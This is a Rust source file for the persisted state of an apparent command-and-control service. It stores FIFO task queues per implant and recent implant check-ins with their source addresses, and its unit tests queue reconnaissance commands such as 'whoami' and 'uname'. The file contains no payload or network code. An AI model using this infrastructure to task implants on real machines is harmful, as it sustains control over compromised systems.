//! The persisted coordination record.
//!
//! A single [`Document`] holds everything the service must remember across
//! restarts: the per-implant task queues and the most recent implant
//! sightings. The store mirrors it to a JSON file, so both containers are
//! always present (empty rather than absent) and serialize identically
//! whether or not they hold entries.

use std::collections::BTreeMap;

use chrono::{DateTime, Utc};
use serde::{Deserialize, Serialize};

/// Default number of distinct implants remembered in [`Document::last_seen`].
pub const DEFAULT_LAST_SEEN_CAPACITY: usize = 16;

/// One recorded implant check-in.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Sighting {
    /// Implant identifier.
    #[serde(rename = "ID")]
    pub id: String,
    /// Remote address the implant called in from.
    #[serde(rename = "From")]
    pub from: String,
    /// When the check-in happened.
    #[serde(rename = "When")]
    pub when: DateTime<Utc>,
}

/// Task queues and sightings shared between operators and implants.
///
/// `task_q` is keyed by implant ID and ordered for a stable on-disk form.
/// Each queue is FIFO: operators append, the implant-facing side pops from
/// the front when a task is delivered.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Document {
    /// Pending tasks per implant ID, oldest first.
    #[serde(rename = "TaskQ", default, deserialize_with = "null_as_default")]
    pub task_q: BTreeMap<String, Vec<String>>,
    /// Most recent distinct implant sightings, newest first.
    #[serde(rename = "LastSeen", default, deserialize_with = "null_as_default")]
    pub last_seen: Vec<Sighting>,
}

impl Document {
    /// Append `task` to the queue for implant `id`.
    pub fn enqueue(&mut self, id: &str, task: &str) {
        self.task_q
            .entry(id.to_owned())
            .or_default()
            .push(task.to_owned());
    }

    /// Pop the oldest pending task for implant `id`.
    ///
    /// The queue entry is removed once it is empty so delivered implants do
    /// not leave empty lists behind in the file.
    pub fn take_task(&mut self, id: &str) -> Option<String> {
        let queue = self.task_q.get_mut(id)?;
        let task = if queue.is_empty() {
            None
        } else {
            Some(queue.remove(0))
        };
        if queue.is_empty() {
            self.task_q.remove(id);
        }
        task
    }

    /// Put `task` back at the front of the queue for implant `id`, so it is
    /// the next one delivered.
    pub fn requeue(&mut self, id: &str, task: String) {
        self.task_q.entry(id.to_owned()).or_default().insert(0, task);
    }

    /// Remove the most recently queued copy of `task` for implant `id`.
    ///
    /// Returns whether a copy was found.
    pub fn withdraw(&mut self, id: &str, task: &str) -> bool {
        let Some(queue) = self.task_q.get_mut(id) else {
            return false;
        };
        let Some(index) = queue.iter().rposition(|t| t == task) else {
            return false;
        };
        queue.remove(index);
        if queue.is_empty() {
            self.task_q.remove(id);
        }
        true
    }

    /// Pending tasks for implant `id`, oldest first.
    pub fn pending(&self, id: &str) -> &[String] {
        self.task_q.get(id).map_or(&[], Vec::as_slice)
    }

    /// Record that implant `id` checked in from `from` at `when`.
    ///
    /// An existing entry for the same ID is moved to the front; entries
    /// beyond `capacity` are evicted from the back.
    pub fn record_sighting(&mut self, id: &str, from: &str, when: DateTime<Utc>, capacity: usize) {
        self.last_seen.retain(|s| s.id != id);
        self.last_seen.insert(
            0,
            Sighting {
                id: id.to_owned(),
                from: from.to_owned(),
                when,
            },
        );
        self.last_seen.truncate(capacity);
    }

    /// Find the last sighting of implant `id`.
    pub fn last_seen_of(&self, id: &str) -> Option<&Sighting> {
        self.last_seen.iter().find(|s| s.id == id)
    }
}

/// Decode `null` as the type's default so a hand-edited file with
/// `"TaskQ": null` still loads as an empty container.
fn null_as_default<'de, D, T>(deserializer: D) -> Result<T, D::Error>
where
    D: serde::Deserializer<'de>,
    T: Default + Deserialize<'de>,
{
    Ok(Option::<T>::deserialize(deserializer)?.unwrap_or_default())
}

#[cfg(test)]
mod tests {
    use chrono::TimeZone;

    use super::*;

    fn at(secs: i64) -> DateTime<Utc> {
        Utc.timestamp_opt(secs, 0).single().unwrap_or_default()
    }

    #[test]
    fn empty_document_serializes_empty_containers() {
        let json = serde_json::to_string(&Document::default()).unwrap_or_default();
        assert_eq!(json, r#"{"TaskQ":{},"LastSeen":[]}"#);
    }

    #[test]
    fn null_and_missing_fields_decode_as_empty() {
        let doc: Document = serde_json::from_str(r#"{"TaskQ":null}"#).unwrap_or_default();
        assert!(doc.task_q.is_empty());
        assert!(doc.last_seen.is_empty());
    }

    #[test]
    fn tasks_are_fifo_per_implant() {
        let mut doc = Document::default();
        doc.enqueue("a", "whoami");
        doc.enqueue("a", "id");
        doc.enqueue("b", "uname");
        assert_eq!(doc.pending("a"), ["whoami", "id"]);
        assert_eq!(doc.take_task("a").as_deref(), Some("whoami"));
        assert_eq!(doc.take_task("a").as_deref(), Some("id"));
        assert_eq!(doc.take_task("a"), None);
        assert!(!doc.task_q.contains_key("a"));
        assert_eq!(doc.pending("b"), ["uname"]);
    }

    #[test]
    fn requeued_task_is_delivered_next() {
        let mut doc = Document::default();
        doc.enqueue("a", "id");
        doc.requeue("a", String::from("whoami"));
        doc.requeue("b", String::from("uname"));
        assert_eq!(doc.pending("a"), ["whoami", "id"]);
        assert_eq!(doc.pending("b"), ["uname"]);
    }

    #[test]
    fn withdraw_removes_the_latest_copy_only() {
        let mut doc = Document::default();
        doc.enqueue("a", "whoami");
        doc.enqueue("a", "id");
        doc.enqueue("a", "whoami");
        assert!(doc.withdraw("a", "whoami"));
        assert_eq!(doc.pending("a"), ["whoami", "id"]);

        assert!(!doc.withdraw("a", "uname"));
        assert!(!doc.withdraw("b", "whoami"));

        assert!(doc.withdraw("a", "id"));
        assert!(doc.withdraw("a", "whoami"));
        assert!(!doc.task_q.contains_key("a"));
    }

    #[test]
    fn sightings_are_newest_first_and_distinct() {
        let mut doc = Document::default();
        doc.record_sighting("a", "10.0.0.1", at(1), 4);
        doc.record_sighting("b", "10.0.0.2", at(2), 4);
        doc.record_sighting("a", "10.0.0.3", at(3), 4);

        let ids: Vec<&str> = doc.last_seen.iter().map(|s| s.id.as_str()).collect();
        assert_eq!(ids, ["a", "b"]);
        assert_eq!(
            doc.last_seen_of("a").map(|s| s.from.as_str()),
            Some("10.0.0.3")
        );
    }

    #[test]
    fn sightings_are_capped() {
        let mut doc = Document::default();
        for i in 0..10 {
            doc.record_sighting(&format!("id-{i}"), "x", at(i), 3);
        }
        let ids: Vec<&str> = doc.last_seen.iter().map(|s| s.id.as_str()).collect();
        assert_eq!(ids, ["id-9", "id-8", "id-7"]);
    }

    #[test]
    fn sighting_uses_capitalised_keys() {
        let s = Sighting {
            id: String::from("a"),
            from: String::from("1.2.3.4"),
            when: at(0),
        };
        let value = serde_json::to_value(&s).unwrap_or_default();
        assert_eq!(value["ID"], "a");
        assert_eq!(value["From"], "1.2.3.4");
        assert!(value.get("When").is_some());
    }
}
